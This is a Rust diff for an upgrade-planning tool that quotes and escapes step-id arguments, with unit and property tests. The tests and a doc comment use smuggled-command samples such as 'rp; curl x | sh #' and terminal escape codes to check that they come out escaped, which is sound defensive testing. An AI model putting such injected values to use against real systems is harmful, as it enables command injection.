@@ -13,23 +13,22 @@ use crate::model::{
 
 /// The key (`name`) of the entity at `index` of root list `field`.
 pub fn entity_name(schema: &Schema, root: &Value, field: u16, index: u32) -> Arc<str> {
-    let key = schema
-        .entity_of_root_field(field)
-        .and_then(|r| schema.record(r).entity.as_ref())
-        .map(|e| e.key_field);
-    root_list(root, field)
-        .and_then(|l| l.get(index as usize))
-        .and_then(Value::as_record)
-        .and_then(|r| key.and_then(|k| r.get(k as usize)))
-        .and_then(Value::as_str)
-        .map_or_else(|| Arc::from(format!("#{index}")), Arc::from)
+    entity_key(schema, root, field, index).map_or_else(|| Arc::from(format!("#{index}")), Arc::from)
 }
 
 pub fn hop_name(h: &Hop) -> String {
     format!("{}->{}", h.from, h.to)
 }
 
-/// `3.16->4.0:upgrade-kubernetes(biz-1,1.29)`
+/// `3.16->4.0:upgrade-kubernetes(biz-1,1.29)`: the hop, the step and its arguments.
+///
+/// Ids must tell steps apart, and an argument comes from the inventory: a name
+/// `a,b` would make `f(a,b)` the id of two steps. An argument made only of
+/// [`bare`] characters is written as it is (so the ids of ordinary plans never
+/// change); any other is quoted, with `\`, `"` and everything outside printable
+/// ASCII escaped (`"rp; curl \u{1b}"`), so it cannot end early, hold a line break
+/// or reach a terminal raw. An entity without a name is `#3` (its index), which no
+/// quoted or bare argument can be.
 pub fn step_id(rb: &Rulebook, graph: &Graph, hops: &[u16], root: &Value, inst: u32) -> String {
     let i = &graph.insts[inst as usize];
     let step = &rb.steps[i.step as usize];
@@ -38,21 +37,58 @@ pub fn step_id(rb: &Rulebook, graph: &Graph, hops: &[u16], root: &Value, inst: u
         hop_name(&rb.hops[hops[i.hop as usize] as usize]),
         step.name
     );
+    let mut text = String::new();
     for (n, (a, p)) in i.args.iter().zip(&step.params).enumerate() {
         if n > 0 {
             id.push(',');
         }
-        arg_text(&rb.schema, root, a, &p.ty, &mut id);
+        text.clear();
+        match a {
+            Arg::Entity { field, index } => match entity_key(&rb.schema, root, *field, *index) {
+                Some(name) => text.push_str(name),
+                None => {
+                    let _ = write!(id, "#{index}");
+                    continue;
+                }
+            },
+            Arg::Value(v) => display(&rb.schema, Val::of(v), &p.ty, &mut text),
+        }
+        push_arg(&mut id, &text);
     }
     id.push(')');
     id
 }
 
-pub fn arg_text(schema: &Schema, root: &Value, a: &Arg, ty: &Type, out: &mut String) {
-    match a {
-        Arg::Entity { field, index } => out.push_str(&entity_name(schema, root, *field, *index)),
-        Arg::Value(v) => display(schema, Val::of(v), ty, out),
+/// Whether an argument may appear unquoted in a step id: what names, versions, paths
+/// and numbers are made of, and none of the id's own punctuation (`(`, `,`, `)`, `"`).
+pub fn bare(text: &str) -> bool {
+    !text.is_empty()
+        && text
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"._-/+:".contains(&b))
+}
+
+fn push_arg(id: &mut String, text: &str) {
+    if bare(text) {
+        id.push_str(text);
+    } else {
+        id.push('"');
+        let _ = write!(id, "{}", text.escape_default());
+        id.push('"');
     }
+}
+
+/// The key (`name`) of the entity at `index` of root list `field`, if it has one.
+fn entity_key<'v>(schema: &Schema, root: &'v Value, field: u16, index: u32) -> Option<&'v str> {
+    let key = schema
+        .entity_of_root_field(field)
+        .and_then(|r| schema.record(r).entity.as_ref())
+        .map(|e| e.key_field)?;
+    root_list(root, field)
+        .and_then(|l| l.get(index as usize))
+        .and_then(Value::as_record)
+        .and_then(|r| r.get(key as usize))
+        .and_then(Value::as_str)
 }
 
 /// The entity a step acts on (its first entity argument), by name.
@@ -194,4 +230,75 @@ pub fn join_versions(vs: &[crate::model::Version]) -> String {
         let _ = write!(s, "{v}");
     }
     s
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    fn args(list: &[&str]) -> String {
+        let mut id = String::new();
+        for (n, a) in list.iter().enumerate() {
+            if n > 0 {
+                id.push(',');
+            }
+            push_arg(&mut id, a);
+        }
+        id
+    }
+
+    #[test]
+    fn ordinary_arguments_stay_as_they_are() {
+        let got = args(&[
+            "biz-1",
+            "1.29",
+            "/cpaas/minio",
+            "120",
+            "log-storage-clickhouse",
+        ]);
+        assert_eq!(got, "biz-1,1.29,/cpaas/minio,120,log-storage-clickhouse");
+        assert_eq!(
+            args(&["v1.30.4+build.7", "-3", "a_b:c"]),
+            "v1.30.4+build.7,-3,a_b:c"
+        );
+    }
+
+    #[test]
+    fn other_arguments_are_quoted_and_escaped() {
+        assert_eq!(args(&["a,b", "c"]), r#""a,b",c"#);
+        assert_eq!(args(&["a", "b,c"]), r#"a,"b,c""#);
+        assert_eq!(args(&["x)"]), r#""x)""#);
+        assert_eq!(args(&[""]), r#""""#);
+        assert_eq!(args(&[r#"say "hi"\"#]), r#""say \"hi\"\\""#);
+        assert_eq!(args(&["a\nb\u{1b}[2J"]), r#""a\nb\u{1b}[2J""#);
+        assert_eq!(args(&["rp; curl x | sh #"]), r#""rp; curl x | sh #""#);
+        assert_eq!(args(&["café"]), r#""caf\u{e9}""#);
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(2000))]
+
+        /// Two different argument lists of one length never make one id.
+        #[test]
+        fn ids_tell_arguments_apart(
+            a in prop::collection::vec("[a-c,()\"\\\\ .\n-]{0,4}", 1..4),
+            b in prop::collection::vec("[a-c,()\"\\\\ .\n-]{0,4}", 1..4),
+        ) {
+            let (a, b): (Vec<&str>, Vec<&str>) = (
+                a.iter().map(String::as_str).collect(),
+                b.iter().map(String::as_str).collect(),
+            );
+            if a != b && a.len() == b.len() {
+                prop_assert_ne!(args(&a), args(&b));
+            }
+        }
+
+        /// An id holds no control character, whatever the arguments.
+        #[test]
+        fn ids_hold_no_control_characters(a in prop::collection::vec(any::<String>(), 1..4)) {
+            let list: Vec<&str> = a.iter().map(String::as_str).collect();
+            prop_assert!(!args(&list).chars().any(char::is_control));
+        }
+    }
 }
